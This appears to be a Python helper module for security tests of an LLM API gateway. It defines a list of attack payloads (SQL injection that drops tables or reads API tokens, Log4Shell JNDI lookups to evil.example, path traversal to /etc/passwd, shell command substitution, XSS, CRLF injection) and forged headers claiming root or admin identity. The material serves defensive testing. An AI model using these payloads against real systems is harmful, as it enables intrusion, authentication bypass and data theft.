"""What the counter-tests attack with, and how they look at what came of it."""

import socket
from collections.abc import Mapping
from typing import Any
from urllib.parse import urlsplit

import httpx
from gateway.operations import Operation
from gateway.routes import ROUTES

from tests.gateway.conftest import World

ASK: list[Any] = [{"role": "user", "content": "Hi"}]
HOSTILE = (
    "' OR 1=1;--", "\"; DROP TABLE models; --", "1' UNION SELECT * FROM api_tokens--", "admin'/*", "{{7*7}}", "${7*7}",
    "<%= 7*7 %>", "#{7*7}", "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:rmi://evil.example/a}",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "file:///etc/passwd",
    "`id`", "$(id)", "|id", "<script>alert(1)</script>", "%0d%0aX-Evil:%201", "\x7f\xff", "a" * 8000,
)  # fmt: skip
HEADERS = (
    "User-Agent", "Referer", "Origin", "Cookie", "Accept", "Accept-Language", "X-Request-Id", "X-Api-Version",
    "X-Lisa-Session-Id", "X-Litellm-End-User-Id", "OpenAI-Organization", "OpenAI-Project", "Forwarded", "Via",
    "X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Prefix", "X-Forwarded-Proto", "X-Real-Ip", "True-Client-Ip",
    "X-Original-Url", "X-Rewrite-Url", "X-Http-Method-Override", "X-Amzn-Trace-Id", "X-Amz-Security-Token",
)  # fmt: skip
FORGED = {
    "X-Forwarded-For": "127.0.0.1", "X-Forwarded-Host": "evil.example", "X-Forwarded-Prefix": "/admin",
    "X-Forwarded-Proto": "https", "X-Forwarded-Port": "0", "Forwarded": "for=127.0.0.1;host=evil.example",
    "X-Real-Ip": "127.0.0.1", "X-Original-Url": "/health", "X-Rewrite-Url": "/health",
    "X-Http-Method-Override": "GET", "X-Forwarded-User": "root", "X-Remote-User": "root",
    "X-Amzn-Oidc-Identity": "root", "X-Lisa-Username": "root", "X-Lisa-Groups": "admin",
    "X-Litellm-End-User-Id": "root",
}  # fmt: skip
CALLED = [(method, path.decode()) for path, methods in ROUTES.items() for method in methods]
GUARDED = [
    (method, path.decode()) for path, methods in ROUTES.items() for method, one in methods.items() if not one.is_public
]


def body_for(operation: Operation, model: str = "echo") -> dict[str, Any]:
    """What every operation takes, all at once, without a file."""
    fields: dict[str, Any] = {
        "messages": ASK,
        "prompt": "x",
        "input": "x",
        "query": "x",
        "documents": ["y"],
        "voice": "alloy",
    }
    fields |= {"max_tokens": 5, operation.required: fields.get(operation.required, "x")}
    return {"model": model, **fields}


def client(world: World, credential: str | None, headers: Mapping[str, str]) -> httpx.Client:
    own = {"Api-Key": credential} if credential else {}
    return httpx.Client(base_url=world.url, headers={**headers, **own}, timeout=20)


def without_ids(answer: httpx.Response) -> Any:
    body = answer.json()
    return {**body, "requestId": "", "request_id": ""} if isinstance(body, dict) else body


def raw(world: World, request: bytes, seconds: float = 20) -> bytes:
    """Everything that is answered until the connection is closed, or silent for `seconds`.

    Raises: TimeoutError when nothing is answered, and the connection not closed either.
    """
    parts = urlsplit(world.url)
    with socket.create_connection((parts.hostname, parts.port), timeout=20) as connection:
        answer = b""
        try:
            connection.sendall(request)
            while piece := connection.recv(65536):
                answer += piece
                connection.settimeout(seconds)
        except ConnectionError:
            pass
        except TimeoutError:
            if not answer:
                raise
        return answer


def statuses(answer: bytes) -> list[int]:
    """Of each answer on a connection."""
    return [int(part.split(b" ", 1)[0]) for part in answer.split(b"HTTP/1.1 ")[1:]]


def calls(world: World) -> int:
    return len(world.upstream.seen.bodies) + len(world.anthropic.seen.bodies)
